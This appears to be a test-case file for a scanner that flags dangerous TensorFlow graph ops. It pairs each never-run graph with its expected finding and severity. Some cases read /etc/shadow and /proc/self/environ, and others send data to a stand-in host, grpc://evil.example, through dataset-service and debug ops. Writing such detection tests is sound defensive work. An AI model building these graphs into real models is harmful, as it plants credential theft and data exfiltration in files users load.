"""Graphs that read, write and talk through data sets, debug ops and other single ops. Never run."""

from __future__ import annotations

from typing import Any

import tensorflow as tf
from cases import TEXT, served
from graph_attacks import after, found

raw = tf.raw_ops


def count(dataset: tf.data.Dataset) -> Any:
    return dataset.reduce(tf.constant(0, tf.int64), lambda a, _: a + 1)


served(
    "data_text",
    "data readers",
    lambda x: count(tf.data.TextLineDataset("/etc/shadow")),
    found("file-read", "critical", "TextLineDataset", "/etc/shadow"),
)
served(
    "data_records",
    "data readers",
    lambda x: count(tf.data.TFRecordDataset(["/data/a.tfrecord", "/data/b.tfrecord"])),
    found("file-read", "high", "TFRecordDataset", "/data/a.tfrecord, /data/b.tfrecord"),
)
served(
    "data_fixed",
    "data readers",
    lambda x: count(tf.data.FixedLengthRecordDataset("/proc/self/environ", 4)),
    found("file-read", "critical", "FixedLengthRecordDatasetV2", "/proc/self/environ"),
)
served(
    "data_csv",
    "data readers",
    lambda x: count(tf.data.experimental.CsvDataset("/etc/accounts.csv", [tf.float32])),
    found("file-read", "critical", "CSVDatasetV2", "/etc/accounts.csv"),
)
served(
    "data_sql",
    "data readers",
    lambda x: count(
        tf.data.experimental.SqlDataset("sqlite", "/srv/users.db", "select 1", (tf.int32,))
    ),
    found("file-read", "high", "SqlDataset", "/srv/users.db"),
)
served(
    "data_cache",
    "data writers",
    lambda x: count(tf.data.Dataset.range(3).cache("/tmp/cache")),
    found("file-write", "critical", "CacheDatasetV2", "/tmp/cache"),
)
served(
    "data_snapshot",
    "data writers",
    lambda x: count(tf.data.Dataset.range(3).snapshot("/tmp/snapshot")),
    found("file-write", "critical", "SnapshotDatasetV2", "/tmp/snapshot"),
)
served(
    "data_to_records",
    "data writers",
    lambda x: after(
        x,
        raw.DatasetToTFRecord(
            input_dataset=tf.data.Dataset.from_tensors("x")._variant_tensor,
            filename="/tmp/records",
            compression_type="",
        ),
    ),
    found("file-write", "critical", "DatasetToTFRecord", "/tmp/records"),
)
served(
    "data_service",
    "network",
    lambda x: raw.RegisterDatasetV2(
        dataset=tf.data.Dataset.range(3)._variant_tensor,
        address="grpc://evil.example:5000",
        protocol="grpc",
        external_state_policy=0,
        requested_dataset_id="x",
    ),
    found("network", "critical", "RegisterDatasetV2", "grpc://evil.example:5000"),
)
served(
    "debug_url",
    "debug ops",
    lambda x: raw.DebugIdentity(input=x, debug_urls=["grpc://evil.example:7000"]),
    found("debug-output", "critical", "DebugIdentity", "grpc://evil.example:7000"),
)
served(
    "debug_file",
    "debug ops",
    lambda x: raw.DebugIdentityV2(input=x, debug_urls=["file:///tmp/dump"]),
    found("debug-output", "critical", "DebugIdentityV2", "file:///tmp/dump"),
)
served(
    "abort",
    "process",
    lambda x: after(x, raw.Abort(error_msg="end")),
    found("process", "medium", "Abort", "end"),
)
served(
    "hidden_graph",
    "hidden graph",
    lambda x: raw.DatasetCardinality(input_dataset=raw.DatasetFromGraph(graph_def=x)),
    found("hidden-graph", "high", "DatasetFromGraph"),
    spec=TEXT,
)
served(
    "decode_proto",
    "decoders",
    lambda x: raw.DecodeProtoV2(
        bytes=x,
        message_type="M",
        field_names=["a"],
        output_types=[tf.int32],
        descriptor_source="/tmp/types.desc",
    ).values[0],
    found("file-read", "high", "DecodeProtoV2", "/tmp/types.desc"),
    spec=TEXT,
)
served(
    "restore_other",
    "checkpoints",
    lambda x: raw.RestoreV2(
        prefix="/models/other/ckpt", tensor_names=["w"], shape_and_slices=[""], dtypes=[tf.float32]
    )[0],
    found("checkpoint-read", "medium", "RestoreV2", "/models/other/ckpt"),
)
served(
    "save_outside",
    "checkpoints",
    lambda x: after(
        x, raw.SaveV2(prefix="/tmp/weights", tensor_names=["w"], shape_and_slices=[""], tensors=[x])
    ),
    found("checkpoint-write", "critical", "SaveV2", "/tmp/weights"),
)
served(
    "summary",
    "summaries",
    lambda x: after(
        x,
        raw.CreateSummaryFileWriter(
            writer=raw.SummaryWriter(),
            logdir="logs",
            max_queue=1,
            flush_millis=1,
            filename_suffix="",
        ),
    ),
    found("summary-write", "medium", "CreateSummaryFileWriter", "logs"),
)
